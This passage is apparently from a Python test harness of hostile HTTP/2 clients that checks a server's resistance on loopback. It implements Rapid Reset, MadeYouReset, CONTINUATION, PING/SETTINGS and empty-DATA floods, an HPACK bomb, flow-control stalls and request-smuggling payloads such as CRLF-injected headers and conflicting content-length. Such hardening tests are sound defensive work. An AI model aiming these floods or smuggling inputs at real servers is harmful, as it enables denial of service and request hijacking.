#!/usr/bin/python3
"""Hostile HTTP/2 clients for Http2HostileIT, one subcommand per attack.

Every subcommand connects to 127.0.0.1:PORT with prior knowledge (cleartext HTTP/2), does one thing a
stranger may do, and prints what the server did as JSON lines: progress events {"event": ...} while it
runs, then one {"verdict": {...}} line at the end. Frames are written by hand (a 9-byte header and a
payload) and header blocks are HPACK literals without indexing, so that nothing on this side refuses
to send a bad frame and the HPACK state stays trivial; what comes back is decoded with hpack, which
ships with python3-h2. Run it with Debian's /usr/bin/python3.

Every loop here is bounded in count and in time; every socket goes to a loopback address.
"""

import argparse
import json
import select
import socket
import sys
import time

import hpack
from h2.errors import ErrorCodes

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
FRAME_NAMES = ["DATA", "HEADERS", "PRIORITY", "RST_STREAM", "SETTINGS", "PUSH_PROMISE", "PING", "GOAWAY",
               "WINDOW_UPDATE", "CONTINUATION"]
END_STREAM, ACK, END_HEADERS, PADDED, PRIORITY_FLAG = 0x1, 0x1, 0x4, 0x8, 0x20

SETTINGS_HEADER_TABLE_SIZE, SETTINGS_ENABLE_PUSH, SETTINGS_MAX_CONCURRENT_STREAMS = 1, 2, 3
SETTINGS_INITIAL_WINDOW_SIZE, SETTINGS_MAX_FRAME_SIZE, SETTINGS_MAX_HEADER_LIST_SIZE = 4, 5, 6
SETTING_NAMES = {1: "HEADER_TABLE_SIZE", 2: "ENABLE_PUSH", 3: "MAX_CONCURRENT_STREAMS", 4: "INITIAL_WINDOW_SIZE",
                 5: "MAX_FRAME_SIZE", 6: "MAX_HEADER_LIST_SIZE", 8: "ENABLE_CONNECT_PROTOCOL"}

MAX_FRAME = 16384  # SETTINGS_MAX_FRAME_SIZE's initial value; every frame sent here fits it
CANCEL = ErrorCodes.CANCEL


def emit(kind, value):
    print(json.dumps({kind: value}, sort_keys=True), flush=True)


def error_name(code):
    try:
        return ErrorCodes(code).name
    except ValueError:
        return "0x%x" % code


def now_ms(start):
    return int((time.monotonic() - start) * 1000)


# ---- frames and header blocks, by hand -------------------------------------------------------------

def frame(ftype, flags, stream_id, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes((ftype, flags)) + (stream_id & 0x7FFFFFFF).to_bytes(4, "big") + payload


def settings_frame(pairs=()):
    return frame(SETTINGS, 0, 0, b"".join(k.to_bytes(2, "big") + v.to_bytes(4, "big") for k, v in pairs))


def rst_frame(stream_id, code):
    return frame(RST_STREAM, 0, stream_id, int(code).to_bytes(4, "big"))


def window_update_frame(stream_id, increment):
    return frame(WINDOW_UPDATE, 0, stream_id, increment.to_bytes(4, "big"))


def hpack_int(value, prefix_bits, first=0):
    """RFC 7541 §5.1: an integer in a prefix of prefix_bits bits, the byte's other bits taken from first."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes((first | value,))
    out = bytearray((first | limit,))
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def as_bytes(s):
    return s if isinstance(s, bytes) else s.encode("latin-1")


def literal(name, value, representation=0x00):
    """A literal field with a new name (RFC 7541 §6.2): 0x00 without indexing, 0x10 never indexed, 0x40 indexed."""
    name, value = as_bytes(name), as_bytes(value)
    prefix = 6 if representation == 0x40 else 4
    return hpack_int(0, prefix, representation) + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


def header_block(headers):
    return b"".join(literal(n, v) for n, v in headers)


def request_headers(path, method="GET", extra=()):
    return [(":method", method), (":scheme", "http"), (":authority", "localhost"), (":path", path), *extra]


def headers_frames(stream_id, block, end_stream=True, end_headers=True):
    """HEADERS, then CONTINUATION frames for whatever does not fit one frame; END_HEADERS on the last."""
    pieces = [block[i:i + MAX_FRAME] for i in range(0, len(block), MAX_FRAME)] or [b""]
    out = []
    for i, piece in enumerate(pieces):
        last = i == len(pieces) - 1
        flags = (END_HEADERS if last and end_headers else 0) | (END_STREAM if i == 0 and end_stream else 0)
        out.append(frame(HEADERS if i == 0 else CONTINUATION, flags, stream_id, piece))
    return b"".join(out)


def data_frames(stream_id, data, end_stream=True):
    pieces = [data[i:i + MAX_FRAME] for i in range(0, len(data), MAX_FRAME)] or [b""]
    return b"".join(frame(DATA, END_STREAM if end_stream and i == len(pieces) - 1 else 0, stream_id, p)
                    for i, p in enumerate(pieces))


# ---- one client connection -------------------------------------------------------------------------

class Conn:
    """A client connection: writes what it is given, reads and records what the server sends.

    It acknowledges the server's SETTINGS and PINGs and, unless told not to, gives back the flow-control
    window of every DATA frame, as a well-behaved client would; what is owed is queued and written
    whenever the socket takes it.
    """

    def __init__(self, port, settings=(), rcvbuf=None, auto_ack=True, window_updates=True):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        self.sock.settimeout(3)
        self.sock.connect(("127.0.0.1", port))
        self.sock.setblocking(False)
        self.auto_ack = auto_ack
        self.window_updates = window_updates
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 24
        self.inbuf = bytearray()
        self.outbuf = bytearray()
        self.pending_block = None  # (stream id, fragments so far, END_STREAM) of a header block in progress
        self.closed = False
        self.reset = False
        self.stalled = False
        self.goaway = None
        self.server_settings = {}
        self.settings_seen = False
        self.settings_acks = 0
        self.ping_acks = 0
        self.frames = {}
        self.statuses = {}
        self.resets = {}
        self.ended = set()
        self.data_bytes = {}
        self.hpack_error = None
        self.bytes_sent = 0
        self.bytes_received = 0
        self.connection_window = 65535  # what we may still send on the connection (RFC 9113 §6.9.2)
        self.send(PREFACE + settings_frame(settings))

    # writing

    def send(self, data, timeout=5.0, read=True):
        """Writes data (after anything owed); False when the connection ended or took nothing for timeout s."""
        self.outbuf += data
        return self.flush(timeout, read)

    def flush(self, timeout=5.0, read=True):
        deadline = time.monotonic() + timeout
        while self.outbuf and not self.closed:
            left = deadline - time.monotonic()
            if left <= 0:
                self.stalled = True
                return False
            readable, writable, _ = select.select([self.sock] if read else [], [self.sock], [], left)
            if readable:
                self._receive()
            if writable and not self.closed:
                try:
                    n = self.sock.send(self.outbuf[:1 << 20])
                except (BlockingIOError, InterruptedError):
                    continue
                except (BrokenPipeError, ConnectionResetError):
                    self._ended(reset=True)
                    break
                del self.outbuf[:n]
                self.bytes_sent += n
                deadline = time.monotonic() + timeout  # progress: the timeout is for a write that takes nothing
        return not self.closed and not self.outbuf

    # reading

    def pump(self, timeout):
        """Reads what arrives within timeout seconds (one wait for the socket), writing what is owed."""
        if self.closed:
            return
        readable, writable, _ = select.select([self.sock], [self.sock] if self.outbuf else [], [], max(0.0, timeout))
        if readable:
            self._receive()
        if writable and self.outbuf and not self.closed:
            self.flush(0.5)

    def wait(self, condition, timeout):
        """Reads until condition() holds, the connection ends, or timeout seconds pass; returns condition()."""
        deadline = time.monotonic() + timeout
        while not condition() and not self.closed and time.monotonic() < deadline:
            self.pump(min(0.05, max(0.0, deadline - time.monotonic())))
        return condition()

    def answered(self, stream_id):
        """The stream has its answer: a final status with END_STREAM or an error status, a reset, a GOAWAY
        that leaves it unprocessed, or the end of the connection."""
        if stream_id in self.resets or self.closed:
            return True
        if self.goaway is not None and self.goaway["last_stream_id"] < stream_id:
            return True
        status = self.statuses.get(stream_id, 0)
        return status >= 400 or (status >= 200 and stream_id in self.ended)

    def _receive(self):
        try:
            chunk = self.sock.recv(1 << 20)
        except (BlockingIOError, InterruptedError):
            return
        except ConnectionResetError:
            self._ended(reset=True)
            return
        if not chunk:
            self._ended(reset=False)
            return
        self.bytes_received += len(chunk)
        self.inbuf += chunk
        self._parse()

    def _ended(self, reset):
        self.closed = True
        self.reset = self.reset or reset

    def _parse(self):
        buf = self.inbuf
        offset = 0
        while len(buf) - offset >= 9:
            length = int.from_bytes(buf[offset:offset + 3], "big")
            if len(buf) - offset < 9 + length:
                break
            ftype, flags = buf[offset + 3], buf[offset + 4]
            stream_id = int.from_bytes(buf[offset + 5:offset + 9], "big") & 0x7FFFFFFF
            payload = bytes(buf[offset + 9:offset + 9 + length])
            offset += 9 + length
            self._frame(ftype, flags, stream_id, payload)
        del buf[:offset]

    def _frame(self, ftype, flags, stream_id, payload):
        name = FRAME_NAMES[ftype] if ftype < len(FRAME_NAMES) else "0x%x" % ftype
        self.frames[name] = self.frames.get(name, 0) + 1
        if ftype == SETTINGS:
            if flags & ACK:
                self.settings_acks += 1
            else:
                for i in range(0, len(payload) - 5, 6):
                    key = int.from_bytes(payload[i:i + 2], "big")
                    self.server_settings[SETTING_NAMES.get(key, str(key))] = int.from_bytes(payload[i + 2:i + 6], "big")
                self.settings_seen = True
                if self.auto_ack:
                    self.outbuf += frame(SETTINGS, ACK, 0)
        elif ftype == PING:
            if flags & ACK:
                self.ping_acks += 1
            elif self.auto_ack:
                self.outbuf += frame(PING, ACK, 0, payload)
        elif ftype == GOAWAY:
            self.goaway = {"last_stream_id": int.from_bytes(payload[0:4], "big") & 0x7FFFFFFF,
                           "code": error_name(int.from_bytes(payload[4:8], "big")),
                           "debug": payload[8:208].decode("latin-1")}
        elif ftype == RST_STREAM:
            self.resets[stream_id] = error_name(int.from_bytes(payload[0:4], "big"))
        elif ftype == HEADERS:
            start, end = 0, len(payload)
            if flags & PADDED:
                start, end = 1, len(payload) - payload[0]
            if flags & PRIORITY_FLAG:
                start += 5
            self.pending_block = (stream_id, [payload[start:end]], bool(flags & END_STREAM))
            if flags & END_HEADERS:
                self._end_block()
        elif ftype == CONTINUATION and self.pending_block:
            self.pending_block[1].append(payload)
            if flags & END_HEADERS:
                self._end_block()
        elif ftype == DATA:
            self.data_bytes[stream_id] = self.data_bytes.get(stream_id, 0) + len(payload)
            if flags & END_STREAM:
                self.ended.add(stream_id)
            if self.window_updates and payload:
                self.outbuf += window_update_frame(0, len(payload)) + window_update_frame(stream_id, len(payload))
        elif ftype == WINDOW_UPDATE and stream_id == 0 and len(payload) == 4:
            self.connection_window += int.from_bytes(payload, "big") & 0x7FFFFFFF
        elif ftype == PUSH_PROMISE:
            self.hpack_error = self.hpack_error or "PUSH_PROMISE received though push was never enabled by us"

    def _end_block(self):
        stream_id, fragments, end_stream = self.pending_block
        self.pending_block = None
        try:
            fields = self.decoder.decode(b"".join(fragments))
        except Exception as e:  # the server's HPACK, not ours: record it rather than fail
            self.hpack_error = "%s: %s" % (type(e).__name__, e)
            return
        status = dict(fields).get(":status")
        if status is not None and (stream_id not in self.statuses or self.statuses[stream_id] < 200):
            self.statuses[stream_id] = int(status)
        if end_stream:
            self.ended.add(stream_id)

    def summary(self):
        codes = {}
        for code in self.resets.values():
            codes[code] = codes.get(code, 0) + 1
        return {"closed": self.closed, "reset": self.reset, "stalled": self.stalled, "goaway": self.goaway,
                "resets": codes, "responses": len(self.statuses), "frames": self.frames,
                "server_settings": self.server_settings, "bytes_sent": self.bytes_sent,
                "bytes_received": self.bytes_received, "hpack_error": self.hpack_error}

    def stream(self, stream_id):
        """What one stream got: its status, its reset code, its DATA bytes."""
        return {"status": self.statuses.get(stream_id), "reset": self.resets.get(stream_id),
                "data_bytes": self.data_bytes.get(stream_id, 0), "ended": stream_id in self.ended}

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def stdin_released(timeout):
    """Whether the test let go within timeout seconds: a line on stdin, or stdin closed."""
    readable, _, _ = select.select([sys.stdin], [], [], timeout)
    return bool(readable)


def settle(conn, seconds):
    """After an attack: reads until the connection ends, to see the server's last word; for up to
    seconds, or one second once a GOAWAY came (a graceful one may leave the connection open)."""
    deadline = time.monotonic() + seconds
    conn.wait(lambda: conn.goaway is not None, seconds)
    conn.wait(lambda: False, min(1.0, max(0.0, deadline - time.monotonic())))


# ---- well-behaved clients --------------------------------------------------------------------------

def get_h2(port, path, timeout=3.0):
    """One GET on a fresh HTTP/2 connection: (status or None, what went wrong or None, ms)."""
    start = time.monotonic()
    conn = None
    try:
        conn = Conn(port)
        conn.send(headers_frames(1, header_block(request_headers(path))))
        conn.wait(lambda: 1 in conn.ended or 1 in conn.resets, timeout)
        status = conn.statuses.get(1)
        if status == 200 and 1 in conn.ended:
            return status, None, now_ms(start)
        return status, "h2 %s: status %s reset %s goaway %s closed %s" % (
            path, status, conn.resets.get(1), conn.goaway, conn.closed), now_ms(start)
    except OSError as e:
        return None, "h2 %s: %s" % (path, e), now_ms(start)
    finally:
        if conn:
            conn.close()


def get_h1(port, path, timeout=3.0):
    """One HTTP/1.1 GET on a fresh connection, Connection: close: (status or None, what went wrong or None, ms)."""
    start = time.monotonic()
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=timeout) as s:
            s.settimeout(timeout)
            s.sendall(("GET %s HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n" % path).encode())
            got = b""
            deadline = time.monotonic() + timeout
            while b"\r\n" not in got and len(got) < 65536 and time.monotonic() < deadline:
                chunk = s.recv(65536)
                if not chunk:
                    break
                got += chunk
            line = got.split(b"\r\n", 1)[0].decode("latin-1")
            parts = line.split(" ")
            status = int(parts[1]) if len(parts) > 1 and parts[1].isdigit() else None
            return status, None if status == 200 else "h1 %s: %r" % (path, line), now_ms(start)
    except OSError as e:
        return None, "h1 %s: %s" % (path, e), now_ms(start)


def cmd_ok(args):
    """A well-behaved client: GETs on one connection, one after the other; what the server announced."""
    start = time.monotonic()
    conn = Conn(args.port)
    conn.wait(lambda: conn.settings_seen, 3)
    streams = []
    for i in range(args.count):
        sid = 1 + 2 * i
        if not conn.send(headers_frames(sid, header_block(request_headers(args.path)))):
            break
        conn.wait(lambda: conn.answered(sid), 5)
        streams.append(conn.stream(sid))
    conn.pump(0.05)  # a SETTINGS ACK or a WINDOW_UPDATE may follow
    verdict = {"attack": "ok", "streams": streams, "elapsed_ms": now_ms(start), **conn.summary()}
    conn.close()
    emit("verdict", verdict)


def cmd_bystander(args):
    """Another client, while an attack runs: fresh connections, alternately HTTP/2 and HTTP/1.1, until released."""
    start = time.monotonic()
    done = ok = 0
    failures = []
    slowest = 0
    deadline = start + args.seconds
    while done < args.max_requests and time.monotonic() < deadline:
        if done % 2 == 0 or args.h1_port == 0:
            status, failure, ms = get_h2(args.port, "/bystander/h2/%d" % done)
        else:
            status, failure, ms = get_h1(args.h1_port, "/bystander/h1/%d" % done)
        done += 1
        slowest = max(slowest, ms)
        if failure:
            failures.append(failure)
        else:
            ok += 1
        emit("event", {"served": done, "ok": failure is None})
        if stdin_released(0.05):  # paces the requests too
            break
    emit("verdict", {"attack": "bystander", "requests": done, "ok": ok, "failures": failures[:5],
                     "slowest_ms": slowest, "elapsed_ms": now_ms(start)})


# ---- floods ----------------------------------------------------------------------------------------

def flood(conn, frames, batch, count, seconds, sync=None):
    """Writes count frames within seconds, until the server ends the connection or stops reading.

    A server that closes with some of the flood still unread in its socket answers with a TCP reset,
    and a GOAWAY it had just written may be lost with it. So, unless sync is None (a client that reads
    nothing), batches start at one frame and double up to batch, and the server gets to answer each:
    sync "ping" sends a PING after a batch and waits for its ACK (the server has read all before it);
    "pause" (inside a header block, where no other frame may come) reads for 20 ms.
    """
    start = time.monotonic()
    sent = 0
    size = 1 if sync else batch
    ended = lambda: conn.closed or conn.goaway is not None
    while sent < count and time.monotonic() - start < seconds and not ended():
        n = min(size, count - sent)
        if sync == "ping":
            acks = conn.ping_acks
            if not conn.send(frames(sent, n) + frame(PING, 0, 0, sent.to_bytes(8, "big")), timeout=2.0):
                break
            conn.wait(lambda: conn.ping_acks > acks or ended(), 1.0)
        elif not conn.send(frames(sent, n), timeout=2.0, read=sync is not None):
            break
        elif sync == "pause":
            conn.wait(ended, 0.02)
        sent += n
        size = min(batch, size * 2)
    return sent, now_ms(start)


def request_then(args, path, follow):
    """A request, then at once a frame that ends its stream, over and over: never more than a few open."""
    conn = Conn(args.port)
    conn.wait(lambda: conn.settings_seen, 3)

    def pairs(first, n):
        out = []
        for i in range(first, first + n):
            sid = 1 + 2 * i
            out.append(headers_frames(sid, header_block(request_headers("%s/%d" % (path, i)))))
            out.append(follow(sid))
        return b"".join(out)

    sent, ms = flood(conn, pairs, 50, args.streams, args.seconds, sync="ping")
    settle(conn, 3)
    return conn, sent, ms


def cmd_rapid_reset(args):
    """CVE-2023-44487: a request and at once its RST_STREAM(CANCEL) from the client."""
    conn, sent, ms = request_then(args, "/rapid-reset", lambda sid: rst_frame(sid, CANCEL))
    emit("verdict", {"attack": "rapid-reset", "streams_sent": sent, "flood_ms": ms, **conn.summary()})


def cmd_made_you_reset(args):
    """CVE-2025-8671 (MadeYouReset): a request and at once a WINDOW_UPDATE of 0 on its stream, which the
    server must answer with RST_STREAM(PROTOCOL_ERROR) (RFC 9113 §6.9): the server resets the stream
    itself, so a limit on the client's resets does not count it, while its backend request may run on."""
    conn, sent, ms = request_then(args, "/made-you-reset", lambda sid: window_update_frame(sid, 0))
    emit("verdict", {"attack": "made-you-reset", "streams_sent": sent, "flood_ms": ms, **conn.summary()})


def cmd_continuation(args):
    """CVE-2024-27316 and kin: HEADERS without END_HEADERS, then CONTINUATION frames that never end the block.

    big: each CONTINUATION carries 16 KiB of new header fields (the header list grows without end);
    empty: zero-length CONTINUATION frames (CVE-2024-28182, CVE-2024-30255: the block never grows,
    only the work does).
    """
    conn = Conn(args.port)
    conn.wait(lambda: conn.settings_seen, 3)
    block = header_block(request_headers("/continuation/" + args.mode))
    conn.send(frame(HEADERS, END_STREAM, 1, block))
    if args.mode == "big":
        unit = literal("x-flood", "a" * 1012)  # 1024 bytes: 16 fields fill a frame exactly
        assert len(unit) == 1024
        one = frame(CONTINUATION, 0, 1, unit * (MAX_FRAME // len(unit)))
    else:
        one = frame(CONTINUATION, 0, 1)
    sent, ms = flood(conn, lambda first, n: one * n, 64 if args.mode == "big" else 50000, args.frames, args.seconds,
                     sync="pause")
    settle(conn, 3)
    emit("verdict", {"attack": "continuation-" + args.mode, "frames_sent": sent, "flood_ms": ms,
                     "header_block_bytes_sent": sent * (len(one) - 9) + len(block), **conn.summary()})


def cmd_control_flood(args):
    """CVE-2019-9515 (SETTINGS), CVE-2019-9512 (PING), CVE-2019-9514 (requests the server must reset):
    frames that each make the server owe an answer, from a client that reads nothing (a tiny receive
    buffer), so that the answers pile up on the server's side unless it stops reading or gives up."""
    conn = Conn(args.port, rcvbuf=4096, auto_ack=False)
    if args.kind == "settings":
        one = settings_frame([(SETTINGS_INITIAL_WINDOW_SIZE, 65535)])
        frames = lambda first, n: one * n
    elif args.kind == "ping":
        one = frame(PING, 0, 0, b"hostile!")
        frames = lambda first, n: one * n
    else:  # reset: a request with an uppercase field name is malformed: each one earns a RST_STREAM
        block = header_block(request_headers("/reset-flood", extra=[("X-Upper", "1")]))
        frames = lambda first, n: b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, block)
                                           for i in range(first, first + n))
    sent, ms = flood(conn, frames, 2000, args.frames, args.seconds)
    emit("event", {"flood_done": sent})
    conn.auto_ack = True
    settle(conn, 3)  # now it reads: what the server still had to say, and whether it had given up
    emit("verdict", {"attack": args.kind + "-flood", "frames_sent": sent, "flood_ms": ms,
                     "settings_acks": conn.settings_acks, "ping_acks": conn.ping_acks, **conn.summary()})


def cmd_empty_data(args):
    """CVE-2019-9518: a request whose body is an endless run of empty DATA frames without END_STREAM."""
    conn = Conn(args.port)
    conn.wait(lambda: conn.settings_seen, 3)
    conn.send(headers_frames(1, header_block(request_headers("/empty-data", "POST")), end_stream=False))
    one = frame(DATA, 0, 1)
    sent, ms = flood(conn, lambda first, n: one * n, 5000, args.frames, args.seconds, sync="ping")
    settle(conn, 3)
    emit("verdict", {"attack": "empty-data-flood", "frames_sent": sent, "flood_ms": ms, "stream": conn.stream(1),
                     **conn.summary()})


# ---- header lists ----------------------------------------------------------------------------------

def cmd_hpack_bomb(args):
    """The HPACK bomb (CVE-2016-6581 and kin): one 4000-byte field put in the dynamic table by a request
    that is fine, then requests that name it by its one-byte index thousands of times: 16 KiB on the
    wire, 64 MB once decoded."""
    start = time.monotonic()
    conn = Conn(args.port)
    conn.wait(lambda: conn.settings_seen, 3)
    prime = header_block(request_headers("/hpack-bomb/prime")) + literal("x-bomb", "b" * 4000, 0x40)
    conn.send(headers_frames(1, prime))
    conn.wait(lambda: conn.answered(1), 5)
    primed = conn.stream(1)
    bombs = []
    for i in range(args.bombs):
        sid = 3 + 2 * i
        if conn.closed or conn.goaway:
            break
        # 0xbe: the first dynamic entry (index 62), the x-bomb field; nothing new enters the table
        block = header_block(request_headers("/hpack-bomb/bomb-%d" % i)) + b"\xbe" * args.refs
        conn.send(headers_frames(sid, block))
        conn.wait(lambda: conn.answered(sid), 5)
        bombs.append(conn.stream(sid))
    settle(conn, 0.2)
    emit("verdict", {"attack": "hpack-bomb", "prime": primed, "bombs": bombs,
                     "decoded_bytes_per_bomb": args.refs * (32 + 6 + 4000), "elapsed_ms": now_ms(start),
                     **conn.summary()})


def cmd_header_list(args):
    """One request whose header list, decoded, is args.bytes long (RFC 9113 §4.3 size: name + value + 32
    per field), in HEADERS and CONTINUATION frames that do end the block."""
    conn = Conn(args.port)
    conn.wait(lambda: conn.settings_seen, 3)
    fields = []
    size = 0
    while size < args.bytes:
        name = "x-list-%04d" % len(fields)
        value = "v" * min(1000, max(1, args.bytes - size - 32 - len(name)))
        fields.append((name, value))
        size += 32 + len(name) + len(value)
    block = header_block(request_headers("/header-list/%d" % args.bytes, extra=fields))
    conn.send(headers_frames(1, block))
    conn.wait(lambda: conn.answered(1), 5)
    settle(conn, 0.2)
    emit("verdict", {"attack": "header-list", "decoded_bytes": size, "fields": len(fields), "block_bytes": len(block),
                     "stream": conn.stream(1), **conn.summary()})


# ---- flow control ----------------------------------------------------------------------------------

def cmd_zero_window(args):
    """Large responses on many streams to a client that cannot take them, held until the test lets go.

    h2: SETTINGS_INITIAL_WINDOW_SIZE 0 and no WINDOW_UPDATE (kin of CVE-2019-9511, data dribble);
    tcp: windows wide open but nothing read off a tiny receive buffer (CVE-2019-9517, internal data
    buffering). Either way the responses have nowhere to go; the server must not hold them in memory.
    """
    start = time.monotonic()
    if args.mode == "h2":
        conn = Conn(args.port, settings=[(SETTINGS_INITIAL_WINDOW_SIZE, 0)], window_updates=False)
        conn.wait(lambda: conn.settings_seen, 3)
    else:
        conn = Conn(args.port, settings=[(SETTINGS_INITIAL_WINDOW_SIZE, (1 << 31) - 1)], rcvbuf=4096)
        conn.send(window_update_frame(0, (1 << 31) - 1 - 65535))
    streams = [1 + 2 * i for i in range(args.streams)]
    conn.send(b"".join(headers_frames(sid, header_block(request_headers("/big/%d/zero-window-%s-%d" % (args.size, args.mode, i))))
                       for i, sid in enumerate(streams)))
    if args.mode == "h2":
        conn.wait(lambda: all(s in conn.statuses or s in conn.resets for s in streams), 5)
    emit("event", {"holding": len(conn.statuses)})
    deadline = time.monotonic() + args.hold
    while time.monotonic() < deadline:
        if args.mode == "h2":
            conn.pump(0.05)  # answers PINGs and SETTINGS; gives no window
        if stdin_released(0.05 if args.mode == "h2" else 0.2):
            break
    if args.mode == "h2":
        conn.wait(lambda: False, 0.3)  # what the server sent just before the release (resets) is read too
    data = sum(conn.data_bytes.values())
    verdict = {"attack": "zero-window-" + args.mode, "statuses": len(conn.statuses), "data_bytes": data,
               "held_ms": now_ms(start), **conn.summary()}
    conn.close()
    emit("verdict", verdict)


def cmd_concurrency(args):
    """More open streams than SETTINGS_MAX_CONCURRENT_STREAMS allows (RFC 9113 §5.1.2): requests whose
    bodies never come, so that none of them finishes."""
    conn = Conn(args.port)
    conn.wait(lambda: conn.settings_seen, 3)
    streams = [1 + 2 * i for i in range(args.streams)]
    conn.send(b"".join(headers_frames(sid, header_block(request_headers("/concurrency/%d" % i, "POST")), end_stream=False)
                       for i, sid in enumerate(streams)))
    conn.wait(lambda: False, args.wait)
    refused = [i for i, sid in enumerate(streams) if sid in conn.resets]
    emit("verdict", {"attack": "concurrency", "streams_opened": len(streams), "refused_indexes": refused,
                     "refused_codes": sorted({conn.resets[streams[i]] for i in refused}), **conn.summary()})


# ---- malformed requests ----------------------------------------------------------------------------

def unfinished_post(args, name, answered):
    """A POST announcing --length bytes that sends 10 of them and stops; reads until answered(conn) or
    --wait seconds, then reports what stream 1 got."""
    start = time.monotonic()
    conn = Conn(args.port)
    conn.wait(lambda: conn.settings_seen, 3)
    extra = [("content-length", str(args.length))]
    conn.send(headers_frames(1, header_block(request_headers(args.path, "POST", extra)), end_stream=False)
              + data_frames(1, b"x" * 10, end_stream=False))
    conn.wait(lambda: answered(conn), args.wait)
    return conn, {"attack": name, "stream": conn.stream(1), "elapsed_ms": now_ms(start)}


def cmd_early_answer(args):
    """An unfinished POST to a backend that answers at once: the whole response, read as a well-behaved
    client reads (window given back), then the reset that stops the unread request, if one comes."""
    conn, verdict = unfinished_post(args, "early-answer", lambda c: 1 in c.ended or 1 in c.resets)
    conn.wait(lambda: 1 in conn.resets, 1)
    verdict["stream"] = conn.stream(1)
    emit("verdict", {**verdict, **conn.summary()})
    conn.close()


def cmd_stalled_body(args):
    """An unfinished POST whose body never comes: the stream's answer (a 408, a reset)."""
    conn, verdict = unfinished_post(args, "stalled-body", lambda c: c.answered(1))
    emit("verdict", {**verdict, **conn.summary()})
    conn.close()


def cmd_upload(args):
    """POSTs of --length bytes, one stream after another on one connection: HEADERS and the first --first
    bytes of the body in one write (the last frame ending the stream when --first is the whole body),
    then, once the stream is answered, --after: the rest of the body, the rest and trailers, a
    RST_STREAM, or nothing. What a proxy answering before it read the body must survive. DATA frames
    wait for the connection's flow-control window, as a well-behaved client's do; one whose window does
    not come within --wait is reported in window_stalled (and not sent)."""
    start = time.monotonic()
    conn = Conn(args.port)
    conn.wait(lambda: conn.settings_seen, 3)
    body = b"u" * args.length
    streams = [1 + 2 * i for i in range(args.count)]
    stalled = []

    def send_body(sid, data, end_stream, before=b""):
        """before, then data's DATA frames, in one write as far as the window allows."""
        out = bytearray(before)
        pieces = [data[i:i + MAX_FRAME] for i in range(0, len(data), MAX_FRAME)]
        for i, piece in enumerate(pieces):
            if conn.connection_window < len(piece):
                conn.send(bytes(out))
                out = bytearray()
                if not conn.wait(lambda: conn.connection_window >= len(piece), args.wait):
                    stalled.append(sid)
                    return
            conn.connection_window -= len(piece)
            out += frame(DATA, END_STREAM if end_stream and i == len(pieces) - 1 else 0, sid, piece)
        conn.send(bytes(out))

    for sid in streams:
        head = headers_frames(sid, header_block(request_headers(args.path, "POST", [("content-length", str(args.length))])),
                              end_stream=False)
        send_body(sid, body[:args.first], args.first >= args.length, before=head)
        conn.wait(lambda: conn.answered(sid), args.wait)
        rest = body[args.first:]
        if args.after == "rest" and rest:
            send_body(sid, rest, True)
        elif args.after == "trailers":
            send_body(sid, rest, False)
            conn.send(headers_frames(sid, header_block([("x-checksum", "none")]), end_stream=True))
        elif args.after == "reset":
            conn.send(rst_frame(sid, CANCEL))
        conn.wait(lambda: False, 0.1)
    conn.wait(lambda: False, 0.3)
    verdict = {"attack": "upload", "streams": {str(sid): conn.stream(sid) for sid in streams},
               "window_stalled": stalled, "elapsed_ms": now_ms(start), **conn.summary()}
    conn.close()
    emit("verdict", verdict)


def malformed_case(name):
    """(header fields, body or None, trailer fields or None) of one malformed request (RFC 9113 §8.1.1,
    §8.2, §8.3.1), each marked with x-h2-case: NAME and, where it has a path, /malformed/NAME."""
    path = "/malformed/" + name
    mark = ("x-h2-case", name)
    get = request_headers(path)
    post = request_headers(path, "POST")
    smuggled = ("GET /smuggled/%s HTTP/1.1\r\nHost: localhost\r\n\r\n" % name).encode()

    def without(fields, field):
        return [f for f in fields if f[0] != field]

    cases = {
        "missing-method": (without(get, ":method") + [mark], None, None),
        "missing-scheme": (without(get, ":scheme") + [mark], None, None),
        "missing-path": (without(get, ":path") + [mark], None, None),
        "empty-path": (without(get, ":path") + [(":path", ""), mark], None, None),
        "duplicate-path": (get + [(":path", "/malformed/duplicate-path-2"), mark], None, None),
        "unknown-pseudo": (get + [(":hostile", "1"), mark], None, None),
        "response-pseudo": (get + [(":status", "200"), mark], None, None),
        "pseudo-after-regular": (without(get, ":path") + [mark, (":path", path)], None, None),
        "uppercase-name": (get + [("X-H2-Upper", "1"), mark], None, None),
        "empty-name": (get + [("", "1"), mark], None, None),
        "colon-in-name": (get + [("x-injected:1", "2"), mark], None, None),
        "crlf-in-value": (get + [("x-note", "a\r\nx-injected: 1"), mark], None, None),
        "nul-in-value": (get + [("x-note", "a\x00b"), mark], None, None),
        "lf-in-path": (without(get, ":path") + [(":path", path + "\nx-injected: 1"), mark], None, None),
        "space-in-path": (without(get, ":path") + [(":path", path + "/a b"), mark], None, None),
        "connection": (get + [("connection", "keep-alive"), mark], None, None),
        "keep-alive": (get + [("keep-alive", "timeout=5"), mark], None, None),
        "proxy-connection": (get + [("proxy-connection", "keep-alive"), mark], None, None),
        "transfer-encoding": (post + [("transfer-encoding", "chunked"), mark], b"0\r\n\r\n" + smuggled, None),
        "upgrade": (get + [("upgrade", "websocket"), mark], None, None),
        "te-gzip": (get + [("te", "gzip"), mark], None, None),
        "cl-not-a-number": (post + [("content-length", "abc"), mark], b"hello", None),
        "cl-conflicting": (post + [("content-length", "5"), ("content-length", "44"), mark], b"hello" + smuggled, None),
        "cl-too-long": (post + [("content-length", "100"), mark], b"hello", None),
        "cl-too-short": (post + [("content-length", "5"), mark], b"hello" + smuggled, None),
        "cl-without-data": (post + [("content-length", "5"), mark], None, None),
        "pseudo-in-trailers": (post + [mark], b"hello", [(":path", "/malformed/trailer-path"), ("x-trailer", "1")]),
